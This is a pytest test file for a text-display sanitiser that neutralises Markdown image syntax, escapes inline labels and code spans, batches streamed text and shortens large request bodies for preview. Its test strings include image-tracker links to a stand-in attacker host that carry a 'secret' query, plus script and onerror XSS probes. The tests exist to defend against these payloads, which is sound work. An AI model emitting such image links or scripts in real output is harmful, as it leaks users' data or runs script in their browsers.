"""Text for the screen: image syntax made inert, whole or in pieces; labels and code spans inert; a
long stream batched."""

import re
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.context.display import (
    INERT_OPENER,
    LITERAL_OPENER,
    batched,
    for_screen,
    inert_code,
    inert_deltas,
    inert_inline,
    inert_markdown,
    shortened_body,
)

TRACKER = "![logo](https://attacker.example/p.png?q=secret)"


def test_images_are_shown_as_text_links_and_the_rest_are_kept():
    text = f"See {TRACKER} and [the docs](https://example.com) **now**."
    inert = inert_markdown(text)
    assert "![" not in inert
    assert "!\\[logo](https://attacker.example/p.png?q=secret)" in inert
    assert "[the docs](https://example.com) **now**." in inert


def test_reference_style_images_are_inert_too():
    assert "![" not in inert_markdown("![x][1]\n\n[1]: https://attacker.example/p.png")


def test_text_without_images_is_untouched():
    text = "Wow! [a link](https://example.com) <b>bold</b> ! [spaced]"
    assert inert_markdown(text) == text


def test_an_image_split_across_pieces_is_caught():
    pieces = ["Look", " here!", "[x](https://attacker.example/a.png)", " done!"]
    assert "".join(inert_deltas(pieces)) == inert_markdown("".join(pieces))
    assert "![" not in "".join(inert_deltas(pieces))


def test_a_held_exclamation_mark_is_not_lost_at_the_end():
    assert list(inert_deltas(["Hi", "!"])) == ["Hi", "!"]
    assert "".join(inert_deltas(["!", "!", "["])) == "!!\\["


def test_batched_joins_pieces_that_arrive_together():
    ticks = iter([0.0, 0.01, 0.02, 0.1, 0.11, 0.5])
    pieces = ["a", "b", "c", "d", "e", "f"]
    out = list(batched(pieces, interval_s=0.05, clock=lambda: next(ticks)))
    assert out == ["a", "bcd", "ef"]
    assert "".join(out) == "abcdef"


def test_batched_shows_the_first_piece_at_once_and_flushes_the_rest():
    assert list(batched(["only"], clock=lambda: 0.0)) == ["only"]
    assert list(batched(["a", "b"], clock=lambda: 0.0)) == ["a", "b"]
    assert list(batched([])) == []


def test_a_long_fast_stream_becomes_a_few_renders():
    pieces = [f" word{i}" for i in range(20_000)]
    out = list(batched(pieces, interval_s=0.05, clock=lambda: 0.0))
    assert len(out) == 2 and "".join(out) == "".join(pieces)


def test_for_screen_is_inert_and_lossless():
    pieces = ["A ", "!", "[t](u)", " end"]
    assert "".join(for_screen(pieces)) == inert_markdown("".join(pieces))


def test_text_for_the_screen_is_clean():
    assert inert_markdown("half \ud83d\x00") == "half \ufffd"


def test_a_surrogate_pair_split_across_pieces_is_rejoined():
    assert "".join(inert_deltas(["fox \ud83e", "\udd8a!", "[x](u)"])) == "fox 🦊!\\[x](u)"
    assert list(inert_deltas(["lone \ud83d"])) == ["lone ", "\ufffd"]


def test_a_huge_message_is_shortened_for_the_preview_only():
    body = {
        "model": "m",
        "messages": [{"role": "system", "content": "short"}, {"role": "user", "content": "x" * 50_000}],
    }
    shown, left_out = shortened_body(body, limit=1_000)
    assert left_out == 49_000 and body["messages"][1]["content"] == "x" * 50_000  # the body itself is untouched
    assert shown["messages"][0] == body["messages"][0] and shown["model"] == "m"
    assert shown["messages"][1]["content"] == "x" * 500 + " …[49,000 characters not shown]… " + "x" * 500


def test_a_normal_body_is_shown_whole():
    body = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
    assert shortened_body(body) == (body, 0)


# --- where Markdown is not read, a backslash would show: an invisible joiner there -------------


def test_an_image_in_an_html_block_is_split_invisibly_not_escaped():
    # Streamlit shows an HTML block as typed (no HTML is let through): `!\[` would show its backslash.
    text = '<script>alert(1)</script> <img src=x onerror="x()"> ![tracker](https://attacker.example/p.png)'
    inert = inert_markdown(text)
    assert inert == text.replace("![", LITERAL_OPENER) and "\\" not in inert
    assert inert_markdown("<div>\n![a](https://attacker.example/a.png)\n\n![b](https://attacker.example/b.png)") == (
        f"<div>\n{LITERAL_OPENER}a](https://attacker.example/a.png)\n\n{INERT_OPENER}b](https://attacker.example/b.png)"
    )  # the block ends at the blank line: Markdown again after it


def test_an_image_in_code_is_split_invisibly_and_markdown_after_it_escaped():
    text = "Write `![alt](pic.png)` or:\n\n```markdown\n![alt](pic.png)\n```\n\nNot ![this](https://attacker.example/x.png)"
    inert = inert_markdown(text)
    assert inert.count(LITERAL_OPENER) == 2 and inert.count(INERT_OPENER) == 1
    assert inert.endswith(f"Not {INERT_OPENER}this](https://attacker.example/x.png)")
    assert inert_markdown("~~~\n![a](b)\n~~~~\n![c](d)") == f"~~~\n{LITERAL_OPENER}a](b)\n~~~~\n{INERT_OPENER}c](d)"


def test_a_code_span_left_open_does_not_hide_an_image():
    assert inert_markdown("a ` then ![x](https://attacker.example/x.png)") == (
        f"a ` then {INERT_OPENER}x](https://attacker.example/x.png)"
    )
    assert inert_markdown("``![x](u)` still open") == f"``{INERT_OPENER}x](u)` still open"


@pytest.mark.parametrize(
    "text",
    [
        "> ```\n![x](https://attacker.example/x.png)",  # the quote ends, and its fence with it
        "```\n![a](u)\n```\n![b](u)",
        "<div>\n![a](u)",
        "`a` ![b](u) `c`",
        "x\n<span>\n![a](u)",  # a lone tag cannot interrupt a paragraph
        "```![a](u)",  # a fence whose info string (never shown) is the image
    ],
)
def test_every_opener_is_neutralised_whatever_the_context_is_judged(text):
    inert = inert_markdown(text)
    assert "![" not in inert
    assert inert.replace(INERT_OPENER, "![").replace(LITERAL_OPENER, "![") == text  # nothing else changed


# --- inline labels and code spans ---------------------------------------------------------------

TRACKER_LABEL = "Notes ![x](https://attacker.example/l.png) <img src=x> `code` *em* [link](https://e.example)"


def _unescaped(text: str) -> str:
    """`text` without its backslash escapes: what is left must hold no Markdown punctuation."""
    return re.sub(r"\\[!-/:-@\[-`{-~]", "", text)


@pytest.mark.parametrize(
    "text",
    [
        TRACKER_LABEL,
        "# Heading\n- item\n> quote",
        "1. first",
        "a $x^2$ b :red[c] :material/home:",
        "ends with a backslash \\",
        "| a | b |",
        "x` ![a](https://attacker.example/i.png) `y",
    ],
)
def test_inline_text_holds_no_markdown(text):
    inline = inert_inline(text)
    assert not set(_unescaped(inline)) & set(string.punctuation)
    assert "\n" not in inline and "\r" not in inline
    assert re.sub(r"\\(.)", r"\1", inline) == " ".join(text.split())  # unescaped, it is the text as typed


def test_inline_text_is_one_clean_line_cut_to_a_limit():
    assert inert_inline("a\n\nb\tc\u2028d  e") == "a b c d e"
    assert inert_inline("half \ud83d\x00") == "half \ufffd"
    assert inert_inline("abcdefghij", limit=5) == "abcd…"
    assert inert_inline("a.b", limit=5) == "a\\.b"


@pytest.mark.parametrize(
    ("text", "span"),
    [
        ("abc-123", "` abc-123 `"),
        ("x` ![a](https://attacker.example/i.png) `y", "`` x` ![a](https://attacker.example/i.png) `y ``"),
        ("``a```", "```` ``a``` ````"),
        ("two\nlines", "` two lines `"),
    ],
)
def test_code_spans_cannot_be_closed_from_inside(text, span):
    assert inert_code(text) == span
    fence = span.split(" ")[0]
    assert span.count(fence) == 2 and fence + "`" not in span  # the only run that long: the two fences


def test_code_spans_take_a_limit():
    assert inert_code("x" * 10, limit=4) == "` xxx… `"


@given(text=st.text(alphabet=st.sampled_from([*"ab !`[]()<>*_#\\\n\t:$|~-", "\ud83d", "\u2028"]), max_size=40))
def test_any_text_as_a_label_is_one_line_of_escaped_punctuation(text):
    inline = inert_inline(text)
    assert not set(_unescaped(inline)) & set(string.punctuation)
    assert len(inline.splitlines()) <= 1 and "\ud83d" not in inline
    span = inert_code(text)
    fence = span.split(" ")[0]
    assert set(fence) == {"`"} and span.endswith(" " + fence) and span.count(fence) == 2
